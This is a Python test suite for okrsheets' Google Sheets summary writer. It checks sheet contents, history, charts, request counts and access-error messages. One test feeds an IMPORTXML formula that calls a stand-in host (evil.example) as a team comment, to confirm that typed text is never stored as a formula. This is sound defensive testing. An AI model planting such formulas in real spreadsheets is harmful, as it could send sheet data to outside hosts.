"""The company summary on Google Sheets, through real gspread over HTTP against the offline fake.

The same RollupResult is written by the Excel renderer and by the Google one; every
sheet reads back with the same values, night after night (the history included).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from datetime import timedelta

import pytest

from okrsheets.backends.excel_summary import write_summary
from okrsheets.backends.google.auth import connect
from okrsheets.backends.google.summary import GoogleSummary
from okrsheets.testing import FakeGoogle

from .google_setups import ADMIN, SERVICE_ACCOUNT, shared_drive_setup
from .helpers.google_summary import EPOCH, excel_sheets, google_config, google_sheets, writer
from .helpers.summary import AS_OF, SETTINGS, department, engineering, hr, kr, rollup, sales

NIGHTS = (AS_OF - timedelta(days=14), AS_OF - timedelta(days=7), AS_OF)


def three_nights(language: str):
    """Three nightly results a week apart: scores move, a comment turns hostile on the last night."""
    return [
        rollup([sales(0.30), engineering(0.60), hr(0.10)], as_of=NIGHTS[0], language=language, score=0.33),
        rollup([sales(0.36), engineering(0.70), hr(0.15)], as_of=NIGHTS[1], language=language, score=0.40),
        rollup(as_of=NIGHTS[2], language=language),  # sales 0.42, eng 0.75, hr 0.2; company 0.46
    ]


@pytest.fixture(scope="module", params=["vi", "en"])
def both(request, tmp_path_factory):
    """Three nights written by both renderers: (Excel sheets, Google sheets, request log of the last night)."""
    language = request.param
    tmp = tmp_path_factory.mktemp(f"both-{language}")
    with FakeGoogle() as fake, pytest.MonkeyPatch.context() as monkeypatch:
        setup = shared_drive_setup(fake, tmp, language=language)
        config = google_config(setup, monkeypatch)
        path = tmp / "company-summary.xlsx"
        for result in three_nights(language):
            write_summary(result, path, SETTINGS)
            written = writer(config).write(result)
        gc = fake.gspread_client(setup.folder / "service-account.json")
        yield excel_sheets(path), google_sheets(gc, written.spreadsheet_id), language


SHEET_KEYS = ("overview", "objectives", "key_results", "at_risk", "stale", "history", "issues", "kr_history")


@pytest.mark.parametrize("key", SHEET_KEYS)
def test_every_sheet_has_the_cells_of_the_excel_summary(both, key):
    from okrsheets import i18n

    excel, google, language = both
    title = i18n.SUMMARY[language][f"sheet_{key}"]
    assert list(google)[:len(SHEET_KEYS)] == list(excel)  # the same sheets, in the same order
    assert google[title] == excel[title]
    assert google[title]  # and not two empty sheets


def test_the_history_keeps_every_night_and_the_change_is_since_last_week(both):
    excel, google, language = both
    from okrsheets import i18n

    words = i18n.SUMMARY[language]
    history = google[words["sheet_history"]]
    assert history[0] == ["#date", "#score", "sales", "eng", "hr"]  # the hidden key row
    assert history[2:] == [
        [(NIGHTS[0] - EPOCH).days, 0.33, 0.30, 0.60, 0.10],
        [(NIGHTS[1] - EPOCH).days, 0.40, 0.36, 0.70, 0.15],
        [(NIGHTS[2] - EPOCH).days, 0.46, 0.42, 0.75, 0.20],
    ]
    overview = google[words["sheet_overview"]]
    header = next(i for i, row in enumerate(overview) if row and row[0] == words["department"])
    change = overview[header].index(words["change"])
    by_name = {row[0]: row[change] for row in overview[header + 1:]}
    assert by_name == {"Kỹ thuật": pytest.approx(0.05), "Kinh doanh": pytest.approx(0.06), "Nhân sự": pytest.approx(0.05)}


@pytest.fixture
def fake():
    with FakeGoogle() as running:
        yield running


def test_text_a_team_typed_is_stored_as_text_never_a_formula(fake, tmp_path, monkeypatch):
    setup = shared_drive_setup(fake, tmp_path)
    config = google_config(setup, monkeypatch)
    typed = '=IMPORTXML("http://evil.example/x","//a")'
    result = rollup([department("sales", "=HYPERLINK(\"http://x\",\"y\")", 0.4, "yellow", "at_risk", [
        kr("sales", "O1.KR1", "at_risk", 0.4, comment=typed, raw="+84 912", current=None)])])
    written = writer(config).write(result)
    grid = fake.gspread_client(setup.folder / "service-account.json").open_by_key(written.spreadsheet_id).fetch_sheet_metadata(
        {"fields": "sheets(properties.title,data.rowData.values.userEnteredValue)"})
    entered = [cell.get("userEnteredValue", {}) for sheet in grid["sheets"] for data in sheet.get("data", [])
               for row in data.get("rowData", []) for cell in row.get("values", [])]
    assert {"stringValue": typed} in entered
    assert {"stringValue": '=HYPERLINK("http://x","y")'} in entered
    assert {"stringValue": "+84 912"} in entered
    assert not [value for value in entered if "formulaValue" in value]  # nothing anywhere became a formula


def test_charts_grade_colours_and_frozen_headers(fake, tmp_path, monkeypatch):
    setup = shared_drive_setup(fake, tmp_path)  # vi_VN: formulas take ";" and a decimal comma
    config = google_config(setup, monkeypatch)
    written = writer(config).write(rollup())
    meta = fake.gspread_client(setup.folder / "service-account.json").open_by_key(written.spreadsheet_id).fetch_sheet_metadata(
        {"fields": "properties(locale,timeZone),sheets(properties(title,hidden,gridProperties),charts.spec,conditionalFormats)"})
    assert meta["properties"] == {"locale": "vi_VN", "timeZone": "Asia/Ho_Chi_Minh"}
    sheets = {s["properties"]["title"]: s for s in meta["sheets"]}
    overview = sheets["Tổng quan"]
    assert overview["properties"]["gridProperties"]["frozenRowCount"] == 10  # heading, 7 facts, a blank row, header
    [chart] = overview["charts"]
    assert chart["spec"]["basicChart"]["chartType"] == "BAR" and len(chart["spec"]["basicChart"]["series"]) == 2
    [line] = sheets["Lịch sử"]["charts"]
    assert line["spec"]["basicChart"]["chartType"] == "LINE"
    assert len(line["spec"]["basicChart"]["series"]) == 4  # the company and three departments
    rules = sheets["Kết quả then chốt"]["conditionalFormats"]
    formulas = sorted(r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules)
    assert formulas == ["=AND(ISNUMBER(J2);J2<0,4)", "=AND(ISNUMBER(J2);J2>=0,4;J2<0,7)", "=AND(ISNUMBER(J2);J2>=0,7)"]
    assert sheets["Lịch sử KR"]["properties"]["hidden"] is True


def big_result(departments: int):
    """``departments`` departments of five KRs each."""
    made = []
    for n in range(departments):
        key = f"d{n:03d}"
        made.append(department(key, f"Phòng {n}", 0.5, "yellow", "at_risk",
                               [kr(key, f"O{o}.KR{k}", "at_risk", 0.1 * (o + k)) for o in (1, 2) for k in (1, 2, 3)][:5]))
    return rollup(made)


def test_200_departments_cost_at_most_three_requests_each_night(fake, tmp_path, monkeypatch):
    setup = shared_drive_setup(fake, tmp_path)
    config = google_config(setup, monkeypatch)
    result = big_result(200)
    connection = connect(config.google, config.language)
    fake.clear_log()
    written = GoogleSummary(config, connection).write(result)  # first night: made in the folder, with its one sheet
    assert [(e.endpoint, e.status) for e in fake.request_log] == [
        ("drive.files.list", 200), ("drive.files.create", 200), ("sheets.spreadsheets.batchUpdate", 200)]
    fake.clear_log()
    GoogleSummary(config, connection).write(result)  # found again by its properties; its sheets as okrsheets left them
    assert [e.endpoint for e in fake.request_log] == [
        "drive.files.list", "sheets.spreadsheets.values.batchGet", "sheets.spreadsheets.batchUpdate"]
    configured = replace(config, google=replace(config.google, summary_spreadsheet_id=written.spreadsheet_id))
    fake.clear_log()
    GoogleSummary(configured, connection).write(result)  # the ID in the config
    assert [e.endpoint for e in fake.request_log] == [
        "drive.files.get", "sheets.spreadsheets.values.batchGet", "sheets.spreadsheets.batchUpdate"]
    key_results = fake.gspread_client(setup.folder / "service-account.json").open_by_key(
        written.spreadsheet_id).worksheet("Kết quả then chốt")
    assert len(key_results.col_values(3)) == 1 + 1000  # the header and every KR
    # the counter on the session saw what the fake logged, request for request
    assert connection.requests.counts() == {
        "drive.files.create": 1, "drive.files.get": 1, "drive.files.list": 2, "sheets.spreadsheets.batchUpdate": 3,
        "sheets.spreadsheets.values.batchGet": 2}


def test_api_request_counts_equal_the_fakes_log(fake, tmp_path, monkeypatch):
    setup = shared_drive_setup(fake, tmp_path)
    config = google_config(setup, monkeypatch)
    connection = connect(config.google, config.language)
    fake.clear_log()
    fake.inject_fault(503, nth=1, path=":batchUpdate")  # a refused request counts too: Google counted it
    connection.patience.random = lambda: 0.0  # the retry of the 503 (backends/google/retry.py) waits no real time
    GoogleSummary(config, connection).write(rollup())
    assert [e.status for e in fake.request_log if e.endpoint == "sheets.spreadsheets.batchUpdate"] == [503, 200]
    assert connection.requests.counts() == dict(Counter(e.endpoint for e in fake.request_log))
    assert connection.requests.total == len(fake.request_log) == 4  # files.list, files.create, batchUpdate twice


# --- failures on the summary side: one clear message that says what to do ---


def _configured(setup, monkeypatch, summary_id: str):
    text = setup.config.read_text(encoding="utf-8").replace("[[departments]]", f'summary_spreadsheet_id = "{summary_id}"\n\n[[departments]]', 1)
    setup.config.write_text(text, encoding="utf-8")
    return google_config(setup, monkeypatch)


def test_a_summary_shared_read_only_names_the_address_to_share_with(fake, tmp_path, monkeypatch):
    from okrsheets.errors import GoogleAccessError

    setup = shared_drive_setup(fake, tmp_path, language="en")
    summary_id = fake.seed_spreadsheet("OKR summary", owner=ADMIN)
    fake.share(summary_id, SERVICE_ACCOUNT, "reader")
    config = _configured(setup, monkeypatch, summary_id)
    with pytest.raises(GoogleAccessError) as caught:
        writer(config).write(rollup())
    assert str(caught.value) == (
        f'{SERVICE_ACCOUNT} can read the summary spreadsheet "OKR summary" ({summary_id}) but not change it; share it'
        f" with {SERVICE_ACCOUNT} as Editor. Tonight's scores were read and kept; the next rollup writes the summary")
    assert fake.count(endpoint="sheets.spreadsheets.batchUpdate") == 0


def test_a_wrong_summary_id_is_a_404_naming_the_setting(fake, tmp_path, monkeypatch):
    from okrsheets.errors import GoogleAccessError

    setup = shared_drive_setup(fake, tmp_path, language="vi")
    config = _configured(setup, monkeypatch, "1WrongSummaryId")
    with pytest.raises(GoogleAccessError) as caught:
        writer(config).write(rollup())
    assert str(caught.value) == (
        f"không tìm thấy bảng tổng hợp 1WrongSummaryId, hoặc chưa được chia sẻ cho {SERVICE_ACCOUNT}: hãy kiểm tra"
        " backend.summary_spreadsheet_id trong tệp cấu hình, và chia sẻ cho"
        f" {SERVICE_ACCOUNT} với quyền Người chỉnh sửa (Điểm đêm nay đã được đọc và lưu lại; lần tổng hợp sau sẽ ghi bảng tổng hợp)")


def test_a_summary_in_the_trash_says_restore_or_remove_the_setting(fake, tmp_path, monkeypatch):
    from okrsheets.errors import GoogleAccessError

    setup = shared_drive_setup(fake, tmp_path, language="en")
    summary_id = fake.seed_spreadsheet("OKR summary", owner=ADMIN, parent=setup.folder_id)
    fake.files[summary_id].trashed = True
    config = _configured(setup, monkeypatch, summary_id)
    with pytest.raises(GoogleAccessError) as caught:
        writer(config).write(rollup())
    assert str(caught.value) == (
        f'the summary spreadsheet "OKR summary" ({summary_id}) is in the trash; restore it in Drive, or remove'
        " backend.summary_spreadsheet_id from the config to have a new one made in the folder")


def test_the_docs_summary_messages_are_ones_okrsheets_prints():
    import re
    from pathlib import Path

    from okrsheets.backends.google.summary import WORDS
    from okrsheets.backends.google.words import TEXT

    doc = (Path(__file__).parents[1] / "docs" / "google.md").read_text(encoding="utf-8")
    section = doc[doc.index("When the summary cannot be written"):doc.index("**`okrsheets demo --google`**")]
    starts = re.findall(r"^\| `([^`]+)`", section, flags=re.MULTILINE)
    assert len(starts) == 5
    templates = [t.replace("{what}", TEXT["en"]["what_summary"]) for t in [*WORDS["en"].values(), *TEXT["en"].values()]]
    for start in starts:
        pieces = [p.strip() for p in start.split("...") if p.strip()]
        assert any(all(piece in template for piece in pieces) for template in templates), start


def test_number_formats_are_the_excel_summarys(fake, tmp_path, monkeypatch):
    setup = shared_drive_setup(fake, tmp_path)
    config = google_config(setup, monkeypatch)
    written = writer(config).write(rollup())
    meta = fake.gspread_client(setup.folder / "service-account.json").open_by_key(written.spreadsheet_id).fetch_sheet_metadata(
        {"ranges": "'Kết quả then chốt'!G2:O6", "fields": "sheets.data.rowData.values(userEnteredValue,userEnteredFormat.numberFormat)"})
    rows = [[cell.get("userEnteredFormat", {}).get("numberFormat", {}).get("pattern") for cell in row["values"]]
            for row in meta["sheets"][0]["data"][0]["rowData"]]
    # start, target, current, score, change, status, confidence, comment, last update
    assert rows[0] == ["#,##0", "#,##0", "#,##0", "0%", "+0%;-0%;0%", None, None, None, "dd/mm/yyyy"]
    assert rows[4][:4] == ["#,##0", "#,##0", "#,##0.###", "0%"]  # eng O1.KR1: 10 days down to 2, now 2.8


def test_a_summary_larger_than_a_request_may_be_goes_in_several_batch_updates(fake, tmp_path, monkeypatch):
    from okrsheets.backends.google import summary as google_summary

    setup = shared_drive_setup(fake, tmp_path)
    config = google_config(setup, monkeypatch)
    result = big_result(20)
    whole = writer(config).write(result)
    monkeypatch.setattr(google_summary, "MAX_BODY", 40_000)
    fake.clear_log()
    split = writer(config).write(replace(result, as_of=AS_OF + timedelta(days=1)))
    assert split.spreadsheet_id == whole.spreadsheet_id
    assert fake.count(endpoint="sheets.spreadsheets.batchUpdate") > 2
    gc = fake.gspread_client(setup.folder / "service-account.json")
    sheets = google_sheets(gc, split.spreadsheet_id)
    assert len(sheets["Kết quả then chốt"]) == 1 + 100
    assert [row[0] for row in sheets["Lịch sử"][2:]] == [(AS_OF - EPOCH).days, (AS_OF - EPOCH).days + 1]
    assert list(sheets)[:len(SHEET_KEYS)] == ["Tổng quan", "Mục tiêu", "Kết quả then chốt", "Có rủi ro", "Lâu chưa cập nhật",
                                              "Lịch sử", "Vấn đề dữ liệu", "Lịch sử KR"]


def test_a_wrong_folder_with_no_summary_id_names_the_folder(fake, tmp_path, monkeypatch):
    from okrsheets.errors import GoogleAccessError

    setup = shared_drive_setup(fake, tmp_path, language="en")
    setup.config.write_text(setup.config.read_text(encoding="utf-8").replace(setup.folder_id, "1WrongFolderId"), encoding="utf-8")
    config = google_config(setup, monkeypatch)
    with pytest.raises(GoogleAccessError) as caught:
        writer(config).write(rollup())
    assert str(caught.value).startswith(
        f"the folder 1WrongFolderId was not found, or is not shared with {SERVICE_ACCOUNT}: check backend.folder_id in the config")
